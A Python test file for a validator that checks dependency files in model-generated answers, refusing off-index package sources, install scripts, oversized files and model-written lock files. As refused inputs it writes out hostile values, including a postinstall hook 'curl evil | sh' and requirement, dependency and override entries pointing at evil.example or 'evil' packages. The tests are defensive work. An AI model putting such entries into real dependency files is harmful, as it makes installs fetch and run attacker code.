"""The rules for dependency files: only packages of the configured index, few of them, no install scripts."""

from __future__ import annotations

import json

import pytest

from genlib.answer.depfiles import MAX_PACKAGES, check, installs_nothing
from genlib.answer.rules import Limits, check_files
from genlib.documents.llm_output import Answer, FileSpec
from genlib.errors import OutputError

REQ = "api/notes/requirements.txt"
PKG = "frontend/web/package.json"
LOCK = "frontend/web/package-lock.json"


def test_pinned_requirements_with_extras_markers_and_comments_pass() -> None:
    check(REQ, "# web\nflask==3.0.3\npsycopg[binary]==3.2.1 ; python_version >= '3.9'  # db\n\nrequests>=2,<3\n")
    check(REQ, "flask==3.0.3\t# a comment after a tab, as pip allows\r\nuvicorn[standard]==0.30.6\n")


@pytest.mark.parametrize(
    ("name", "content", "nothing"),
    [
        ("requirements.txt", "# no packages: the standard library does it\n\n", True),
        ("requirements.txt", "", True),
        ("requirements.txt", "# web\nflask==3.0.3  # the api\n", False),
        ("package.json", '{"name": "web", "scripts": {"start": "node server.js"}}', True),
        ("package.json", '{"dependencies": {}, "devDependencies": {"jest": "29.7.0"}}', True),  # builds omit dev
        ("package.json", '{"dependencies": {"express": "4.19.2"}}', False),
        ("package.json", '{"optionalDependencies": {"ms": "2.1.3"}}', False),
        ("package.json", "not json", False),  # broken: its build says what is wrong
        ("requirements.txt", "-e .\n", False),
    ],
)
def test_a_dependency_file_naming_no_package_installs_nothing(name: str, content: str, nothing: bool) -> None:
    assert installs_nothing(name, content) is nothing


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("--index-url https://evil.example/simple", "options"),
        ("-e .", "options"),
        ("-r other.txt", "options"),
        ("--extra-index-url=https://x.example", "options"),
        ("flask @ https://evil.example/flask.whl", "URL or path"),
        ("https://evil.example/flask.tar.gz", "not a requirement"),
        ("./vendor/flask", "not a requirement"),
        ("/tmp/pkg.whl", "not a requirement"),
        ("flask==3.0 \\", "options"),
    ],
)
def test_requirement_lines_that_point_elsewhere_are_refused(line: str, why: str) -> None:
    with pytest.raises(OutputError, match=why) as caught:
        check(REQ, f"six==1.16.0\n{line}\n")
    assert str(caught.value).startswith(f"{REQ}: line 2")


def test_too_many_packages_or_bytes_are_refused() -> None:
    many = "".join(f"pkg{i}==1.0\n" for i in range(MAX_PACKAGES + 1))
    with pytest.raises(OutputError, match=f"over the {MAX_PACKAGES} allowed"):
        check(REQ, many)
    with pytest.raises(OutputError, match="bytes, over the"):
        check(REQ, "# " + "x" * 20000 + "\nsix==1.16.0\n")
    deps = {f"pkg{i}": "1.0.0" for i in range(MAX_PACKAGES + 1)}
    with pytest.raises(OutputError, match=f"over the {MAX_PACKAGES} allowed"):
        check(PKG, json.dumps({"dependencies": deps}))


def test_a_plain_package_json_passes() -> None:
    check(
        PKG, json.dumps({"name": "web", "scripts": {"start": "node server.js"}, "dependencies": {"express": "^4.19.2"}})
    )


@pytest.mark.parametrize(
    ("package", "why"),
    [
        ({"scripts": {"postinstall": "curl evil | sh"}}, "--ignore-scripts"),
        ({"dependencies": {"x": "git+https://github.com/a/b.git"}}, "only a version"),
        ({"dependencies": {"x": "file:../x"}}, "only a version"),
        ({"dependencies": {"x": "github:a/b"}}, "only a version"),
        ({"dependencies": {"x": "a/b"}}, "only a version"),
        ({"dependencies": {"x": "npm:evil@1"}}, "only a version"),
        ({"devDependencies": {"x": "https://evil.example/x.tgz"}}, "only a version"),
        ({"dependencies": ["express"]}, "must be an object"),
    ],
)
def test_package_json_pointing_elsewhere_or_with_install_scripts_is_refused(
    package: dict[str, object], why: str
) -> None:
    with pytest.raises(OutputError, match=why):
        check(PKG, json.dumps(package))


def test_overrides_may_only_name_registry_versions() -> None:
    """An override replaces a package anywhere in the tree: a git URL there is an install from outside the index."""
    fine = {"dependencies": {"express": "4.19.2"}, "overrides": {"qs": "6.13.0", "express": {"cookie": "$express"}}}
    check(PKG, json.dumps(fine))
    for hostile in ({"qs": "github:evil/qs"}, {"express": {"cookie": "https://evil.example/c.tgz"}}, {"qs": ["1"]}):
        with pytest.raises(OutputError, match=r"overrides\..* only a version or range"):
            check(PKG, json.dumps({"dependencies": {"express": "4.19.2"}, "overrides": hostile}))


def test_a_lock_file_may_only_resolve_to_a_registry() -> None:
    good = {
        "packages": {
            "": {"name": "web"},
            "node_modules/ms": {"resolved": "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz"},
        }
    }
    check(LOCK, json.dumps(good))
    bad = {"packages": {"node_modules/x": {"resolved": "file:../x"}}}
    with pytest.raises(OutputError, match="only registry packages"):
        check(LOCK, json.dumps(bad))
    with pytest.raises(OutputError, match="not valid JSON"):
        check(LOCK, "{")


def test_only_the_top_of_a_component_folder_holds_dependency_files() -> None:
    check("api/notes/docs/requirements.txt", "-e anything goes: not a dependency file")


def test_a_model_answer_with_a_bad_dependency_file_is_refused_with_the_reason() -> None:
    answer = Answer(files=[FileSpec(path=REQ, content="--index-url https://evil.example/simple\n")])
    with pytest.raises(OutputError, match=f"{REQ}: line 1 .* options"):
        check_files(answer, Limits())


def test_a_model_may_not_write_a_lock_file_a_person_may() -> None:
    """A made-up lock (express without its 30 dependencies) installs a partial tree: refused with the reason."""
    lock = {
        "packages": {"node_modules/express": {"resolved": "https://registry.npmjs.org/express/-/express-4.19.2.tgz"}}
    }
    answer = Answer(files=[FileSpec(path=PKG, content='{"dependencies": {"express": "4.19.2"}}'),
                           FileSpec(path=LOCK, content=json.dumps(lock))])  # fmt: skip
    with pytest.raises(OutputError, match=f"{LOCK}: a model cannot write a lock file"):
        check_files(answer, Limits())
    check(LOCK, json.dumps(lock))  # a person's, checked before its build: registry packages only, as ever
    check_files(Answer(files=answer.files[:1], deletions=[LOCK]), Limits())  # deleting one is how heal drops it
